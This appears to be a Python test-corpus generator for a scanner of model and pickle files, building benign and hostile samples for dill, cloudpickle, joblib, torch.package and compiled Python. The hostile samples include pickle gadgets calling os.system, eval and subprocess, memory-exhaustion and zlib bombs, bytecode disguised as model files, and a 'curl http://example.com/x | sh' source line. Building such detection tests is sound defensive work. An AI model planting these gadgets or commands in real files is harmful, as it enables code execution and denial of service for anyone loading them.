"""What dill, cloudpickle, old joblib and `torch.package` write, honest and with one argument changed; calls that make
their loader set memory aside; sizes that a file claims and does not have; and compiled Python under other names."""

import marshal
import pickle
import struct
import zlib

from .archives import legacy, npy, zipped
from .opcodes import MARKER, Raw, call, called, exploit, name, text, value, whole
from .sample import bad, good, risky, unfinished
from .tensors import safetensors, tensor

DILL = "dill._dill"
CLOUD = "cloudpickle.cloudpickle"
HARMLESS = pickle.dumps({"a": [1, 2.0, "x"]}, 2)


def item(module, qualname, *arguments):
    return Raw(call(module, qualname, *arguments))


def named(module, qualname):
    return Raw(name(module, qualname))


def hostile(stem, *calls, cls="B18", note=""):
    for index, code in enumerate(calls):
        bad(f"serialisers/{stem}_{index}.pkl", whole(code), "pickle", cls, note)


def honest(stem, *calls, note=""):
    for index, code in enumerate(calls):
        good(f"serialisers/ok_{stem}_{index}.pkl", whole(code), "pickle", note)


def dill_type(kind, module=DILL):
    return item(module, "_load_type", kind)


def array_of(function, arguments, *state, module=DILL):
    return call(module, "_create_array", function, arguments, *state)


def dill():
    rebuild = named("numpy._core.multiarray", "_reconstruct")
    nothing = (named("numpy", "ndarray"), (0,), b"b")
    double = Raw(
        call("numpy", "dtype", "f8", False, True) + value((3, "<", None, None, None, -1, -1, 0)) + b"b"
    )
    state = (1, (2,), double, False, bytes(16))
    honest(
        "dill_array",
        array_of(rebuild, nothing, state, None),
        array_of(rebuild, nothing, state, {}),
        array_of(rebuild, nothing, state),
        array_of(rebuild, nothing, state, None, module="dill.dill"),
        call(DILL, "_create_dtypemeta", named("numpy", "float64")),
        call(DILL, "_create_dtypemeta", None),
    )
    system = named("os", "system")
    hostile(
        "dill_array",
        array_of(system, (MARKER,), None),
        array_of(named("builtins", "eval"), ("print('marker')",), None),
        array_of(system, (MARKER,), None, module="dill.dill"),
        array_of(named("builtins", "getattr"), (named("os", "path"), "join"), None),
        array_of(dill_type("CodeType"), (0,), None),
        array_of(named(DILL, "_eval_repr"), ("print('marker')",), None),
        array_of(named(DILL, "_create_array"), (system, (MARKER,), None), None),
        array_of(named("builtins", "__import__"), ("marker",), None),
        array_of(named("torch.storage", "_load_from_bytes"), (exploit(),), None),
        array_of(rebuild, (named("subprocess", "Popen"), (MARKER,), b"b"), state),
        array_of(named("functools", "partial"), (system,), (system, (MARKER,), {}, None)),
        array_of(rebuild, nothing, state, {"__class__": system}),
        array_of(rebuild, nothing, state, {"__setstate__": system}),
        array_of(named(DILL, "_import_module"), ("marker",), None),
        array_of(item("functools", "partial", named("builtins", "print")), (MARKER,), None),
    )
    honest(
        "dill_type",
        dill_type("dict").code,
        dill_type("object", "dill.dill").code,
        called(dill_type("slice").code, 0, 1, None),
        called(dill_type("KeyError").code, "x"),
        called(dill_type("complex").code, 0.0, 1.0),
        called(dill_type("MappingProxyType").code, {"a": 1}),
        called(dill_type("ItemGetterType").code, 1),
        called(dill_type("AttrGetterType").code, "a.b"),
        called(dill_type("PartialType").code, named("builtins", "int")),
        called(dill_type("MethodType").code, named("sklearn.linear_model", "LogisticRegression"), 1),
        called(dill_type("bytearray").code, b"abc"),
        dill_type("NoneType").code,
        call("collections", "defaultdict", dill_type("list")),
    )
    hostile(
        "dill_type",
        dill_type("CodeType").code,
        called(dill_type("FunctionType").code, 1, {}),
        called(dill_type("LambdaType").code, 1, {}),
        called(dill_type("ModuleType").code, "os"),
        called(dill_type("CellType").code, 1),
        dill_type("eval").code,
        dill_type("__import__").code,
        called(dill_type("type").code, "X", (), {}),
        called(dill_type("AttrGetterType").code, "__globals__"),
        called(dill_type("FileType").code, "/tmp/marker", "w"),
        called(dill_type("SuperType").code, dill_type("dict"), 1),
        call(DILL, "_load_type", Raw(call("builtins", "str", "CodeType"))),
        call("functools", "partial", named(DILL, "_load_type"), "CodeType"),
        called(dill_type("PartialType").code, system, MARKER),
        called(dill_type("MethodType").code, system, MARKER),
        called(dill_type("MethodType").code, named("builtins", "getattr"), named("builtins", "dict")),
        called(called(dill_type("MethodType").code, named("builtins", "len"), "x")),
        call("builtins", "list", Raw(b"(" + dill_type("PartialType").code + system.code + b"l")),
    )
    honest(
        "dill_repr",
        call(DILL, "_eval_repr", "Ellipsis"),
        call(DILL, "_eval_repr", "NotImplemented"),
        call(DILL, "_eval_repr", "range(0, 10)"),
        call(DILL, "_eval_repr", "range(1, 1000000000000, 3)"),
        call("dill.dill", "_eval_repr", "xrange(5)"),
    )
    hostile(
        "dill_repr",
        call(DILL, "_eval_repr", "print('marker')"),
        call("dill.dill", "_eval_repr", "__import__('os')"),
        call(DILL, "_eval_repr", "range(print('marker'))"),
        call(DILL, "_eval_repr", "range(1) or print('marker')"),
        call(DILL, "_eval_repr", "os"),
        call(DILL, "_eval_repr", Raw(call("builtins", "str", "print('marker')"))),
        call("functools", "partial", named(DILL, "_eval_repr"), "print('marker')"),
        call("builtins", "list", item(DILL, "_eval_repr", "range(0, 1000000000000)")),
    )
    items = call(DILL, "_getattr", dill_type("dict"), "items", "<method 'items' of 'dict' objects>")
    honest("dill_view", items, called(items, {"a": 1}), call(DILL, "_create_stringi", "abc", 0, False))
    hostile(
        "dill_member",
        call(DILL, "_getattr", dill_type("dict"), "system", "<method 'x' of 'os' objects>"),
        call(DILL, "_getattr", dill_type("dict"), "items", "' ' print(1) or dict' '"),
        call(
            DILL,
            "_getattr",
            dill_type("dict"),
            'x"] or print("marker") or x["',
            "<method 'x' of 'dict' objects>",
        ),
        call(
            DILL,
            "_getattr",
            dill_type("object"),
            "__subclasses__",
            "<method '__subclasses__' of 'object' objects>",
        ),
        call(DILL, "_getattr", dill_type("dict"), "items", Raw(call("builtins", "str", "' 'os' '"))),
        call(DILL, "_getattr", named("os", "path"), "join", "<function 'join' of 'path' objects>"),
        call(DILL, "_getattr", Raw(items), "items", "<method 'items' of 'dict' objects>"),
        call(DILL, "_get_attr", dill_type("dict"), "eval"),
    )
    point = call(DILL, "_create_namedtuple", "Point", ("x", "y"), "shapes")
    good(
        "serialisers/ok_dill_record.pkl",
        whole(called(point, 1, 2)),
        "pickle",
        "a named tuple of an unknown module",
    )
    hostile(
        "dill_record",
        called(call(DILL, "_create_namedtuple", "Popen", ("a",), "subprocess"), MARKER),
        call(DILL, "_create_namedtuple", "Popen", ("a",), "subprocess"),
        called(call(DILL, "_create_namedtuple", "CodeType", ("a",), "types"), 1),
        call(DILL, "_create_namedtuple", "Popen", ("a",), Raw(call("builtins", "str", "subprocess"))),
        called(
            call(DILL, "_create_namedtuple", "Popen", ("a",), Raw(call("builtins", "str", "subprocess"))),
            MARKER,
        ),
        call(DILL, "_create_ftype", named("subprocess", "Popen"), MARKER, (), {}),
        call(DILL, "_create_ftype", dill_type("PartialType"), system, (MARKER,), {}),
        call(DILL, "_create_ftype", dill_type("type"), "X", ((), {}), {}),
        call(DILL, "_create_weakref", 1, item("functools", "partial", system, MARKER)),
        call(DILL, "_create_weakref", 1, item("functools", "partial", named("builtins", "print"), MARKER)),
        call(
            DILL,
            "_create_weakproxy",
            1,
            False,
            item("functools", "partial", named("builtins", "print"), MARKER),
        ),
        call(
            DILL, "_create_filehandle", "/tmp/marker", "w", 0, False, named("builtins", "open"), False, 0, ""
        ),
        call(DILL, "_create_capsule", 1, b"x", 0, 0),
        call(DILL, "_unmarshal", marshal.dumps(compile("print('marker')", "x", "eval"))),
        call(DILL, "_create_code", b"", 0, 0, 0, 0, 1, 0, b"", (), (), (), "x", "x", 1, b""),
        call(DILL, "_create_function", None, {}),
        call(DILL, "_create_cell", 1),
        call(DILL, "_import_module", "os"),
        call(DILL, "_create_type", dill_type("type"), "X", (dill_type("object"),), {"__reduce__": system}),
        call(DILL, "_create_type", dill_type("type"), "X", (dill_type("object"),)),
        call(DILL, "_setitems", Raw(name("os", "environ")), {"a": "b"}),
        call(DILL, "loads", exploit()),
        call("dill", "loads", exploit()),
    )
    enum = named("enum", "EnumMeta")
    kind, thing = dill_type("type"), dill_type("object")
    plain = call(DILL, "_create_type", kind, "Empty", (thing,), {"__module__": "__main__", "__doc__": None})
    good(
        "serialisers/ok_dill_class.pkl",
        whole(object_of(plain)),
        "pickle",
        "an object of a class without methods",
    )
    for index, code in enumerate(
        (
            plain,
            call("builtins", "setattr", Raw(plain), "__qualname__", "Empty"),
            call(DILL, "_create_type", enum, "Color", (named("enum", "Enum"),), {"RED": 1, "BLUE": 2}),
            call(DILL, "_create_type", kind, "Lost", (dill_type("ValueError"),), {"__doc__": None}),
            call(CLOUD, "_make_skeleton_enum", (named("enum", "Enum"),), "C", "C", {"A": 1}, "m", "id", None),
        )
    ):
        risky(
            f"serialisers/dill_defines_{index}.pkl", whole(code), "pickle", "B18", "a class of plain values"
        )
    honest(
        "type",
        call("builtins", "type", named("builtins", "Ellipsis")),
        call("builtins", "type", named("builtins", "NotImplemented")),
        call("builtins", "type", None),
    )
    hostile(
        "dill_class",
        call(DILL, "_create_type", kind, "X", (named("subprocess", "Popen"),), {}),
        call(DILL, "_create_type", kind, "X", (named("sklearn.base", "BaseEstimator"),), {}),
        call(DILL, "_create_type", kind, "X", (thing,), {"__setstate__": named("builtins", "print")}),
        call(
            DILL,
            "_create_type",
            kind,
            "X",
            (thing,),
            {"__init__": item("functools", "partial", named("builtins", "print"))},
        ),
        call(
            DILL,
            "_create_type",
            enum,
            "X",
            (named("subprocess", "Popen"), named("enum", "Enum")),
            {"A": (MARKER,)},
        ),
        call(DILL, "_create_type", enum, "X", (named("enum", "Enum"),), {"A": system}),
        call(DILL, "_create_type", system, "X", (thing,), {}),
        call(DILL, "_create_type", named("types", "FunctionType"), "X", (thing,), {}),
        call(DILL, "_create_type", item("functools", "partial", system), MARKER, (), {}),
        call(
            CLOUD,
            "_class_setstate",
            named("sklearn.base", "BaseEstimator"),
            ({"predict": named("builtins", "print")}, {}),
        ),
        call(CLOUD, "_class_setstate", Raw(skeleton()), ({"__init__": named("builtins", "print")}, {})),
        call(
            CLOUD,
            "_make_skeleton_class",
            named("builtins", "type"),
            "X",
            (named("subprocess", "Popen"),),
            {},
            None,
            None,
        ),
        call(
            "builtins",
            "setattr",
            named("sklearn.base", "BaseEstimator"),
            "predict",
            named("builtins", "print"),
        ),
        call("builtins", "setattr", Raw(plain), "__class__", thing),
        call("builtins", "setattr", Raw(plain), "__init__", named("builtins", "print")),
        call("builtins", "setattr", Raw(plain), Raw(call("builtins", "str", "x")), "y"),
        call("functools", "partial", named("builtins", "setattr"), Raw(plain)),
        object_of(plain) + b"}(" + text("__setstate__") + name("builtins", "print") + b"ub",
    )
    honest(
        "dill_other",
        call(DILL, "_create_ftype", dill_type("PartialType"), named("builtins", "int"), (), {"base": 2}),
        call(DILL, "_create_lock", False),
        call(DILL, "_create_weakref", None),
    )


def object_of(class_):
    """An object of a class, without its constructor."""
    return class_ + b")\x81"


def skeleton():
    return call(
        CLOUD,
        "_make_skeleton_class",
        named("builtins", "type"),
        "X",
        (named("builtins", "object"),),
        {},
        None,
        None,
    )


def cloudpickle():
    method = item(CLOUD, "_builtin_type", "MethodType")
    honest(
        "cloudpickle",
        call(CLOUD, "_make_dict_keys", ["a", "b"]),
        call(CLOUD, "_make_dict_values", [1, 2], True),
        call(CLOUD, "_make_dict_items", {"a": 1}),
        called(item(CLOUD, "_builtin_type", "MappingProxyType").code, {"a": 1}),
        called(method.code, named("sklearn.linear_model", "LogisticRegression"), 1),
        call("cloudpickle.cloudpickle_fast", "_make_dict_keys", ["a"]),
        call("joblib.externals.cloudpickle.cloudpickle", "_make_dict_keys", ["a"]),
        call("ray.cloudpickle.cloudpickle", "_make_dict_keys", ["a"]),
        call("builtins", "property", item("operator", "itemgetter", 0)),
    )
    hostile(
        "cloudpickle",
        called(item(CLOUD, "_builtin_type", "CodeType").code, 0),
        called(item(CLOUD, "_builtin_type", "FunctionType").code, 0),
        called(item(CLOUD, "_builtin_type", "ClassType").code, "X", (), {}),
        called(item("ray.cloudpickle.cloudpickle", "_builtin_type", "CodeType").code, 0),
        call(CLOUD, "_builtin_type", Raw(call("builtins", "str", "CodeType"))),
        call(CLOUD, "_builtin_type", "_sys"),
        call(CLOUD, "_builtin_type", "new_class"),
        called(call(CLOUD, "_builtin_type", "coroutine"), named("builtins", "print")),
        call(CLOUD, "_builtin_type", "MethodType.__globals__"),
        call(CLOUD, "subimport", "os"),
        call(CLOUD, "_make_function", None, {}, None, None, None),
        call(CLOUD, "loads", exploit()),
        called(method.code, named("os", "system"), MARKER),
        called(called(method.code, named("builtins", "len"), "x")),
        call("builtins", "property", item("functools", "partial", named("os", "system"))),
        call("builtins", "property", named("builtins", "getattr")),
        call(CLOUD, "_make_dict_values", item("builtins", "bytes", 2000000000)),
        call(CLOUD, "_make_dict_items", named("os", "environ")),
    )


GIB = 1 << 30


def allocations():
    integer = Raw(b"\x8a\x05" + struct.pack("<q", 2 * GIB)[:5])
    lists = b"".join(b"0" + call("builtins", "list", Raw(b"h\x00")) for _ in range(5000))
    shared = b"\x80\x04](" + b"K\x01" * 40000 + b"eq\x00" + lists + b"."
    range_ = item("builtins", "range", 1 << 40)
    arrays = ("numpy.core.multiarray", "_reconstruct")
    array = named("numpy", "ndarray")
    objects = Raw(
        call("numpy", "dtype", "O8", False, True) + value((3, "|", None, None, None, -1, -1, 63)) + b"b"
    )
    integers = Raw(call("numpy", "dtype", "i8", False, True))
    empty = Raw(call(*arrays, array, (0,), b"b"))
    hostile(
        "allocation",
        call("builtins", "bytearray", 2147483647),
        call("builtins", "bytearray", integer),
        call("builtins", "bytes", 2000000000),
        call("builtins", "bytes", 500000000),
        call("__builtin__", "bytearray", 1000000000),
        value([item("builtins", "bytearray", 100000000) for _ in range(50)]),
        value([item("builtins", "bytearray", 10000000) for _ in range(60)]),
        name("builtins", "bytearray") + value((2000000000,)) + b"\x81",
        name("builtins", "bytearray") + value(()) + value({"source": 2000000000}) + b"\x92",
        call("builtins", "list", item("builtins", "bytes", 200000000)),
        call("builtins", "list", range_),
        call("builtins", "tuple", range_),
        call("builtins", "set", range_),
        call("builtins", "frozenset", item("builtins", "iter", range_)),
        call("builtins", "bytes", range_),
        call("builtins", "list", item("builtins", "zip", range_, range_)),
        call("builtins", "dict", item("builtins", "enumerate", range_)),
        call("collections", "deque", range_),
        call("collections", "deque", range_, 0),
        call("collections", "Counter", item("itertools", "repeat", 1, 1 << 40)),
        call("collections", "OrderedDict", item("builtins", "enumerate", range_)),
        call("builtins", "list", item("itertools", "repeat", 1)),
        call("builtins", "list", item("itertools", "cycle", [1])),
        call("builtins", "list", item("itertools", "chain", [1], range_)),
        call("builtins", "list", item("itertools", "islice", item("itertools", "count"), 1 << 40)),
        call("builtins", "list", item("itertools", "product", range_, range_)),
        call("builtins", "list", item("builtins", "reversed", range_)),
        call("array", "array", "d", item("builtins", "bytes", 2000000000)),
        call("array", "array", "d", range_),
        call("io", "BytesIO", item("builtins", "bytes", 2000000000)),
        call("torch", "FloatStorage", 2000000000),
        call("torch", "DoubleStorage", 200000000),
        call("torch", "UntypedStorage", 2000000000),
        call("torch.storage", "UntypedStorage", 2000000000),
        call("torch", "FloatTensor", 20000, 20000),
        call("torch", "Tensor", 100000, 100000),
        call("torch.nn.modules.linear", "Linear", 100000, 100000),
        call("torch.nn.modules.sparse", "Embedding", 1000000, 4096),
        call(*arrays, array, (2000000000,), b"b"),
        call(*arrays, array, (100000, 100000), b"d"),
        call("numpy._core.multiarray", "_reconstruct", array, (1 << 40,), b"b"),
        call("numpy.ma.core", "_mareconstruct", named("numpy.ma", "MaskedArray"), array, (1 << 36,), b"b"),
        name("numpy", "ndarray") + value(((1 << 34,),)) + b"\x81",
        call("numpy", "ndarray", (60000, 60000)),
        call("numpy", "void", 2000000000),
        empty.code + value((1, (1 << 32,), objects, False, [])) + b"b",
        array_of(named(*arrays), (array, (1 << 36,), b"b"), (1, (0,), objects, False, [])),
        array_of(named("builtins", "bytearray"), (2000000000,), None),
        call(
            "copyreg",
            "_reconstructor",
            named("builtins", "bytearray"),
            named("builtins", "bytes"),
            2000000000,
        ),
        call("decimal", "Decimal", "1e999999999"),
        call("numpy.core.multiarray", "scalar", item("numpy", "dtype", "V2000000000", False, True)),
        name("numpy", "record") + value((2000000000,)) + b"\x81",
        call("builtins", "bytearray", item("builtins", "int", "2000000000")),
        call("builtins", "bytes", item("builtins", "int", "zzzzzz", 36)),
        call(
            "builtins",
            "bytearray",
            item("numpy.core.multiarray", "scalar", integers, struct.pack("<q", 2 * GIB)),
        ),
        call("torch", "FloatStorage", item("builtins", "int", "2000000000")),
        call(*arrays, array, (item("builtins", "int", "2000000000"),), b"b"),
        call(*arrays, array, (1,), "(100000,100000)f8"),
        call(*arrays, array, (1,), "V2000000000"),
        call(*arrays, array, (1,), item("numpy", "dtype", "V2000000000", False, True)),
        call(*arrays, array, (1,), item("numpy", "dtype", "(100000,100000)f8", False, True)),
        call("builtins", "list", item("ipaddress", "IPv6Network", "::/0")),
        call("builtins", "list", item("ipaddress", "IPv4Network", "0.0.0.0/0")),
        call(
            "pandas.core.indexes.base",
            "_new_Index",
            named("pandas", "Index"),
            {"data": range_, "dtype": "f8"},
        ),
        call("builtins", "list", item("builtins", "bytearray", item("builtins", "int", "200000000"))),
        call(
            "builtins",
            "list",
            item("builtins", "iter", item("builtins", "iter", item("builtins", "iter", range_))),
        ),
        call("builtins", "list", item(DILL, "_eval_repr", "range(0, 1000000000)")),
        call(CLOUD, "_make_dict_keys", item("builtins", "range", 1 << 40)),
        cls="B25",
    )
    bad("serialisers/allocation_shared.pkl", shared, "pickle", "B25", "5000 copies of one list")
    long_ago = call("builtins", "range", 1 << 40) + b"q\x00" + b"(".join([b""] * 3001) + b"t" * 3000
    bad(
        "serialisers/allocation_forgotten.pkl",
        whole(long_ago + b"0" + call("builtins", "list", Raw(b"h\x00"))),
        "pickle",
        "B25",
        "a range that was made long before it is gone over",
    )
    honest(
        "allocation",
        call("builtins", "bytearray", 16),
        call("builtins", "bytes", 1000000),
        call("builtins", "bytearray", bytes(100000)),
        call("builtins", "range", 1 << 40),
        value([item("builtins", "range", 1 << 40) for _ in range(100)]),
        call("builtins", "list", item("builtins", "range", 1000)),
        call("builtins", "set", list(range(5000))),
        call("collections", "deque", [1], 1 << 40),
        call("collections", "deque", list(range(1000)), 1000),
        call("collections", "Counter", {"a": 1 << 40}),
        call("array", "array", "d", bytes(80000)),
        call("itertools", "count", 1 << 40),
        call("itertools", "repeat", 1, 1 << 40),
        call("builtins", "enumerate", item("builtins", "range", 1 << 40)),
        call("uuid", "UUID", 1 << 60),
        call("datetime", "timedelta", 10000),
        call("random", "Random", 1 << 60),
        call(*arrays, array, (0,), b"b"),
        call("numpy.core.multiarray", "scalar", Raw(call("numpy", "dtype", "i8", False, True)), bytes(8)),
        call("torch", "Size", (100000, 100000)),
        call("torch", "device", "cuda", 0),
        call("builtins", "bytearray", item("_codecs", "encode", "abc", "latin1")),
        call("builtins", "int", "2000000000"),
        call("numpy.core.multiarray", "scalar", integers, struct.pack("<q", 2 * GIB)),
        call("ipaddress", "IPv4Network", "0.0.0.0/0"),
        call(
            "pandas.core.indexes.base",
            "_new_Index",
            named("pandas", "RangeIndex"),
            {"start": 0, "stop": 1 << 40},
        ),
        call("builtins", "slice", 0, 1 << 60, 1),
        note="what picklers write of large numbers",
    )


def counted(opcode, size, width=8):
    return opcode + struct.pack("<Q", size)[:width]


def claims():
    sizes = (1 << 36, 1 << 40, 1 << 47, (1 << 63) - 1)
    for label, opcode in (("bytes", b"\x8e"), ("text", b"\x8d"), ("bytearray", b"\x96")):
        for size in sizes:
            data = b"\x80\x05" + counted(opcode, size) + b"abc."
            bad(
                f"serialisers/claim_{label}_{size.bit_length()}.pkl",
                data,
                "pickle",
                "B25",
                "bytes that no file has",
            )
        cut = b"\x80\x05" + counted(opcode, 3 * GIB) + bytes(5000)
        unfinished(f"serialisers/cut_{label}.pkl", cut, "pickle", note="a download that was cut off")
    for size in (1 << 30, 1 << 40, (1 << 63) - 1):
        bad(
            f"serialisers/claim_frame_{size.bit_length()}.pkl",
            b"\x80\x04\x95" + struct.pack("<Q", size) + b"]K\x01a.",
            "pickle",
            "B25",
            "a frame that picklers do not make",
        )
    unfinished("serialisers/cut_frame.pkl", b"\x80\x04\x95" + struct.pack("<Q", 65000) + b"]K\x01a", "pickle")
    for count in (10**11, 10**12, 1 << 50):
        bad(
            f"serialisers/claim_{count}.npy",
            npy("<f8", (count,), bytes(16)),
            "numpy",
            "B25",
            "80 GB and more in 144 bytes",
        )
    unfinished("serialisers/cut.npy", npy("<f8", (100000000,), bytes(5000)), "numpy", note="800 MB, cut off")
    for size in (1 << 40, 1 << 44):
        data = safetensors({"w": tensor(0, size, "U8", [size])}, bytes(16))
        bad(
            f"serialisers/claim_{size.bit_length()}.safetensors",
            data,
            "safetensors",
            "B25",
            "a tensor of a tebibyte",
        )
    cut = safetensors({"w": tensor(0, 5 * GIB, "U8", [5 * GIB])}, bytes(20000))
    unfinished("serialisers/cut.safetensors", cut, "safetensors", note="5 GB, cut off")
    storage = b"(X\x07\x00\x00\x00storagectorch\nFloatStorage\nX\x01\x00\x00\x000X\x03\x00\x00\x00cpu"
    lying = storage + b"\x8a\x06" + struct.pack("<Q", 1 << 40)[:6] + b"NtQ."
    bad(
        "serialisers/claim_legacy.pt",
        legacy(b"\x80\x02" + lying),
        "torch-legacy",
        "B25",
        "a storage of 4 TiB",
    )


def zfiles():
    def container(length, width, content, level=9):
        return b"ZF" + length.encode().ljust(width) + zlib.compress(content, level)

    for stem, content in (("hostile", exploit()), ("plain", HARMLESS)):
        length = hex(len(content))
        for label, data in {
            "19": container(length, 19, content),
            "python2": container(length + "L", 20, content),
            "20": container(length, 20, content),
            "stored": container(length, 19, content, 0),
            "fast": container(length, 19, content, 1),
            "no_prefix": container(length[2:], 19, content),
            "capital": container(length.upper(), 19, content),
            "signed": container("+" + length, 19, content),
            "zeros": container("0x" + length[2:].rjust(17, "0"), 19, content),
            "leading": container(" " + length, 19, content),
            "line": container(length + "\n", 19, content),
            "wrong": container("0x1", 19, content),
            "empty_blocks": b"ZF" + length.encode().ljust(19) + empty_blocks(content),
            "window": b"ZF" + length.encode().ljust(19) + small_window(content),
        }.items():
            path = f"serialisers/zfile_{label}_{stem}.joblib"
            note = "joblib before 0.9.3: an inflated pickle"
            if stem == "hostile":
                bad(path, data, "joblib", "B21", note)
            else:
                good(path, data, "joblib", note)
    outer = zipped([("model.joblib", container("0x30", 19, exploit()))])
    bad("serialisers/zfile_in.zip", outer, "zip", "B21")
    bad("serialisers/zlib_empty_blocks.joblib", empty_blocks(exploit()), "zlib", "B21")
    bad("serialisers/zfile.pkl", container("0x30", 19, exploit()), "joblib", "B21")
    bad(
        "serialisers/zfile_twice.joblib",
        container("0x30", 19, container("0x30", 19, exploit())),
        "joblib",
        "B21",
    )
    bad("serialisers/zfile_bomb.joblib", container("0x8000000", 19, bytes(128 << 20)), "joblib", "B25")
    bad("serialisers/zfile_claim.joblib", container("0xffffffffffffffff", 19, HARMLESS), "joblib", "B25")


def empty_blocks(content):
    """A zlib stream that begins with a thousand blocks of nothing."""
    packed = zlib.compress(content)
    return packed[:2] + b"\0\0\0\xff\xff" * 1000 + packed[2:]


def small_window(content):
    """A zlib stream whose first byte is a digit, as those of the length are."""
    packer = zlib.compressobj(9, zlib.DEFLATED, 11)
    return packer.compress(content) + packer.flush()


def compiled():
    body = marshal.dumps(compile("x = 1", "x", "exec"))
    code = b"\xe3" + bytes(12) + b"\x01\0\0\0\x40\0\0\0\xf3\x02\0\0\0d\0" + bytes(8)
    for label, number, header in (
        ("27", 62211, 4),
        ("33", 3230, 8),
        ("36", 3379, 8),
        ("37", 3394, 12),
        ("38", 3413, 12),
        ("311", 3495, 12),
        ("313", 3571, 12),
        ("pypy", 336, 12),
    ):
        data = struct.pack("<H", number) + b"\r\n" + bytes(header) + code
        bad(
            f"serialisers/compiled_{label}.pt",
            data,
            "executable",
            "B14",
            "compiled Python under a model's name",
        )
        risky(
            f"serialisers/compiled_{label}.pyc",
            data,
            "executable",
            "B14",
            "compiled Python under its own name",
        )
    bad("serialisers/compiled_real.pkl", b"\xa7\r\r\n" + bytes(12) + body, "executable", "B14")
    bad("serialisers/compiled_model.bin", b"\xa7\r\r\n" + bytes(12) + code, "executable", "B14")
    bad("serialisers/compiled.safetensors", b"\xa7\r\r\n" + bytes(12) + code, "executable", "B14")
    good("serialisers/ok_lines.txt", b"\xa7\r\r\nnot compiled at all\r\n", "text")


def packages():
    net = "import torch.nn as nn\n\n\nclass Net(nn.Module):\n    def forward(self, x):\n        return x\n"
    storage = b"(X\x07\x00\x00\x00storagectorch\nFloatStorage\nX\x01\x00\x00\x000X\x03\x00\x00\x00cpuK\x02tQ"

    def package(pickled, source=net):
        return zipped(
            {
                "p/.data/0.storage": bytes(8),
                "p/model/model.pkl": pickled,
                "p/mypkg/net.py": source.encode(),
                "p/.data/extern_modules": b"torch\n",
                "p/.data/version": b"6\n",
            }.items()
        )

    plain = b"\x80\x02" + storage + b"."
    good("serialisers/ok_package.pt", package(plain), "zip", "torch.package")
    mangled = "<torch_package_0>."
    system = name("os", "system", 2)
    for label, data in {
        "source": package(plain, "import os\nos.system('curl http://example.com/x | sh')\n" + net),
        "pickle": package(exploit()),
        "mangled": package(exploit(module=mangled + "os")),
        "mangled_12": package(exploit(module="<torch_package_12>.posix")),
        "reduce": package(b"\x80\x02" + value(("reduce_package", 0, Raw(system), (MARKER,))) + b"Q."),
        "reduce_old": package(b"\x80\x02" + value(("reduce_package", Raw(system), (MARKER,))) + b"Q."),
        "reduce_getattr": package(
            b"\x80\x02" + value(("reduce_package", 0, Raw(name("builtins", "getattr", 2)), ("x",))) + b"Q."
        ),
        "reduce_made": package(
            b"\x80\x02"
            + value(("reduce_package", 0, item("functools", "partial", named("builtins", "print")), ()))
            + b"Q."
        ),
    }.items():
        bad(f"serialisers/package_{label}.pt", data, "zip", "B18", "torch.package")
    bad(
        "serialisers/mangled.pkl",
        exploit(module=mangled + "os"),
        "pickle",
        "B1",
        "a name as torch.package marks it",
    )
    good(
        "serialisers/ok_mangled.pkl",
        whole(call(mangled + "collections", "OrderedDict", protocol=2), 2),
        "pickle",
    )


def all_samples():
    dill()
    cloudpickle()
    allocations()
    claims()
    zfiles()
    compiled()
    packages()
